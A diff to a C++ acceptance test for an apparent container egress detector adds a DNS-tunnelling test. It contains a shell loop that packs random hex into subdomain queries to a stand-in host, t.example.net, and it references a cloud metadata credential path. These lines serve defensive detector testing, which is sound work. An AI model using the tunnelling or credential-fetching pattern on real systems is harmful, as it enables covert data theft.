@@ -1,5 +1,6 @@
 // DE10: whoever contacts a metadata address of a cloud is an alert, and the path at which it asked
-// for credentials is named. The addresses are the container's own.
+// for credentials is named. The addresses are the container's own. And who carries data in names is
+// one alert, whose names are few or words none.
 #include "tests/acceptance/egress_test.h"
 
 namespace picket::test {
@@ -29,6 +30,28 @@ TEST_F(EgressTest, TheMetadataServiceIsAnAlertAndThePathIsNamed) {
   EXPECT_THAT(asked[0]["output"].get<std::string>(),
               ::testing::HasSubstr("GET /latest/meta-data/iam/security-credentials/role"));
   EXPECT_EQ(asked[0]["priority"], "CRITICAL");
+}
+
+// Each name is asked for by a process of its own, below one shell.
+std::vector<std::string> asks_for(const std::string& names) {
+  return {"sh", "-c",
+          "for i in $(seq 40); do dns ask udp $(" + names + ").t.example.net >/dev/null; done"};
+}
+
+TEST_F(EgressTest, DataInNamesIsOneAlert) {
+  deploy();
+  if (HasFatalFailure()) return;
+  auto container = make_container({.id = "de10-names"});
+  ASSERT_TRUE(container);
+  run(*container, {"dns", "serve"});
+  run(*container, asks_for("echo service$i-of-the-build-farm"));
+  run(*container, asks_for("echo 0123456789abcdef0123456789abcdef01234567"));
+  EXPECT_TRUE(found(*container, "dns_tunnel").empty());
+  run(*container, asks_for("head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n'"));
+  const auto alerts = found(*container, "dns_tunnel");
+  ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
+  expect_identity(alerts[0], *container);
+  EXPECT_THAT(alerts[0]["output"].get<std::string>(), ::testing::HasSubstr("below example.net"));
 }
 
 }  // namespace
